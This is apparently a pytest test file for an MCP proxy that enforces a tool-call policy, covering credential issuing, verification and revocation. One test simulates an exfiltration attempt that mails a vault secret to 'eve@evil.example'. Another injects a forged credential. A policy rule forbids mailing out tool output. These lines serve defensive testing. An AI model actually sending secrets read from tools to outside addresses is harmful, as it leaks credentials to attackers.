"""The MCP proxy as a runtime task session, with the real MCP Python SDK on both sides:
what a tool returned is the task's output, so a secret read from the vault cannot be mailed
out while the user's own words can; `--resource` lets permits with `on` match; an allowed
call's credential reaches the server, which verifies it with the proxy's public key; the
task's end revokes it."""

from __future__ import annotations

import json
import os
import sys
import textwrap

import pytest

anyio = pytest.importorskip("anyio")
pytest.importorskip("mcp")
pytest.importorskip("joserfc", reason="the `runtime` extra is not installed")
serialization = pytest.importorskip("cryptography.hazmat.primitives.serialization")
ed25519 = pytest.importorskip("cryptography.hazmat.primitives.asymmetric.ed25519")
from mcp import ClientSession, StdioServerParameters, stdio_client  # noqa: E402

TIMEOUT = 60
IDENTITY = "spiffe://acme.org/agents/assistant"
SECRET = "sk-live-5f1e0c9a7b3d"
PROMPT = "Mail bob@acme.com that the quarterly report is ready"

# A vault and a mail tool, as a new user writes them with the SDK. `send` hands back the
# credential it was called with (the proxy puts it in the call's `_meta`), so the test can
# verify it as a real mail server would.
SERVER = textwrap.dedent(
    f'''
    from mcp.server.mcpserver import MCPServer, Context
    from mcp.types import ToolAnnotations

    app = MCPServer("office")

    @app.tool(annotations=ToolAnnotations(readOnlyHint=True))
    def read_secret(name: str) -> str:
        """Read a secret from the vault."""
        return "{SECRET}" if name == "smtp" else "no such secret"

    @app.tool()
    def send(to: str, body: str, ctx: Context) -> str:
        """Send an e-mail."""
        meta = ctx.request_context.meta or {{}}
        return "sent; credential=" + str(meta.get("nhipl/credential"))

    @app.tool(annotations=ToolAnnotations(readOnlyHint=True))
    def read_ticket(ticket: str) -> str:
        """Read a ticket."""
        return "ticket " + ticket + ": printer on fire"

    if __name__ == "__main__":
        app.run("stdio")
    '''
)

POLICY = textwrap.dedent(
    """
    @id("vault") permit any agent to call "office.read_secret" grant ttl 1m;
    @id("mail") permit any agent to call "office.send" grant ttl 2m;
    @id("tickets") permit any agent to call "office.read_ticket" on "ticket:T-*";
    @id("no-exfiltration") forbid any agent to call "office.send"
        when provenance has body and provenance.body startswith "tool:"
        because "a tool's output may not be mailed out";
    """
)


@pytest.fixture
def office(tmp_path):
    (tmp_path / "server.py").write_text(SERVER)
    (tmp_path / "policy.nhipl").write_text(POLICY)
    key = ed25519.Ed25519PrivateKey.generate()
    (tmp_path / "key.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return tmp_path, key.public_key()


def session(folder, body, *extra):
    command = [
        sys.executable, "-c", "from nhipl.cli import main; main()", "mcp-proxy",
        "-p", str(folder / "policy.nhipl"), "--identity", IDENTITY, "--prefix", "office",
        "--intent", "status-mail", "--prompt", PROMPT, "--key", str(folder / "key.pem"),
        "--log", str(folder / "decisions.jsonl"), *extra, "--", sys.executable, str(folder / "server.py"),
    ]  # fmt: skip
    params = StdioServerParameters(command=command[0], args=command[1:], env=dict(os.environ))

    async def main():
        with anyio.fail_after(TIMEOUT), open(folder / "stderr.txt", "a") as errlog:
            async with stdio_client(params, errlog=errlog) as (read, write):
                async with ClientSession(read, write) as client:
                    await client.initialize()
                    return await body(client)

    return anyio.run(main)


def text_of(result) -> str:
    return "\n".join(c.text for c in result.content if getattr(c, "type", None) == "text")


def events(folder) -> list[dict]:
    return [json.loads(line) for line in (folder / "decisions.jsonl").read_text().splitlines()]


def test_a_secret_from_the_vault_cannot_be_mailed_out_but_the_users_words_can(office):
    folder, public_key = office

    async def body(client):
        secret = await client.call_tool("read_secret", {"name": "smtp"})
        leak = await client.call_tool("send", {"to": "eve@evil.example", "body": SECRET})
        fine = await client.call_tool("send", {"to": "bob@acme.com", "body": "the quarterly report is ready"})
        return secret, leak, fine

    secret, leak, fine = session(folder, body)
    assert text_of(secret) == SECRET
    assert leak.is_error and "denied by policy" in text_of(leak) and "may not be mailed out" in text_of(leak)
    assert not fine.is_error and text_of(fine).startswith("sent; credential=ey"), text_of(fine)

    # The server got a credential for exactly this call, signed by the proxy's key (checked
    # here with another JOSE library, as a mail server in another language would).
    jwt = pytest.importorskip("jwt", reason="PyJWT is not installed")
    token = text_of(fine).split("=", 1)[1]
    claims = jwt.decode(token, public_key, algorithms=["EdDSA"], audience="office.send")
    assert claims["sub"] == IDENTITY and claims["aud"] == "office.send" and claims["exp"] - claims["iat"] == 120

    log = events(folder)
    calls = [e for e in log if e.get("kind") == "tool_call"]
    assert [(e["tool"], e["effect"]) for e in calls] == [("office.read_secret", "allow"), ("office.send", "deny"), ("office.send", "allow")]
    assert calls[1]["provenance"]["body"] == "tool:office.read_secret" and calls[2]["provenance"]["body"] == "user"
    assert calls[0]["context"]["tool_annotations"] == {"readOnlyHint": True}
    assert SECRET not in (folder / "decisions.jsonl").read_text() or all(SECRET not in json.dumps(e.get("args")) for e in calls)
    kinds = [e["kind"] for e in log]
    assert kinds[0] == "task_start" and kinds[-1] == "task_end"
    revoked = {e["credential"] for e in log if e["kind"] == "credential_revoke"}
    issued = {e["credential"] for e in log if e["kind"] == "credential_issue"}
    assert issued and issued == revoked, "the task's end revokes every credential it was issued"


def test_the_resource_template_lets_permits_on_resources_match(office):
    folder, _ = office

    async def body(client):
        return await client.call_tool("read_ticket", {"ticket": "T-7"}), await client.call_tool("read_ticket", {"ticket": "X-1"})

    allowed, other = session(folder, body, "--resource", "ticket:{arguments.ticket}")
    assert not allowed.is_error and text_of(allowed) == "ticket T-7: printer on fire"
    assert other.is_error and "denied by policy" in text_of(other)
    calls = [e for e in events(folder) if e.get("kind") == "tool_call"]
    assert [(e["resource"], e["effect"]) for e in calls] == [("ticket:T-7", "allow"), ("ticket:X-1", "deny")]


def test_a_credential_the_client_slips_into_meta_never_reaches_the_server(office):
    folder, _ = office

    async def body(client):
        return await client.call_tool("send", {"to": "bob@acme.com", "body": "the quarterly report is ready"}, meta={"nhipl/credential": "forged"})

    result = session(folder, body)
    assert "forged" not in text_of(result) and text_of(result).startswith("sent; credential=ey")


def test_a_tool_server_checks_the_proxys_credential_at_nhipl_serve_through_a_shared_store(office, tmp_path):
    pytest.importorskip("redis", reason="the `redis` client is not installed")
    from .redis_server import RedisServer
    from .test_serve_process import Server

    folder, _ = office
    redis = RedisServer(tmp_path)
    serve = Server([folder / "policy.nhipl"], "--store", redis.url, "--watch", "0")
    try:

        async def body(client):
            sent = await client.call_tool("send", {"to": "bob@acme.com", "body": "the quarterly report is ready"})
            token = text_of(sent).split("=", 1)[1]
            # While the session lives, the service (another process, its own key) vouches for it.
            status, _, claims = serve.post("/v1/credentials/introspect", {"token": token})
            return token, status, claims

        token, status, claims = session(folder, body, "--store", redis.url)
        assert status == 200 and claims["active"] is True and claims["aud"] == "office.send" and claims["sub"] == IDENTITY
        # The session ended: its task revoked the credential, and the service knows at once.
        assert serve.post("/v1/credentials/introspect", {"token": token})[2] == {"active": False}
    finally:
        errors = serve.stop()
        redis.stop()
    assert "Traceback" not in errors
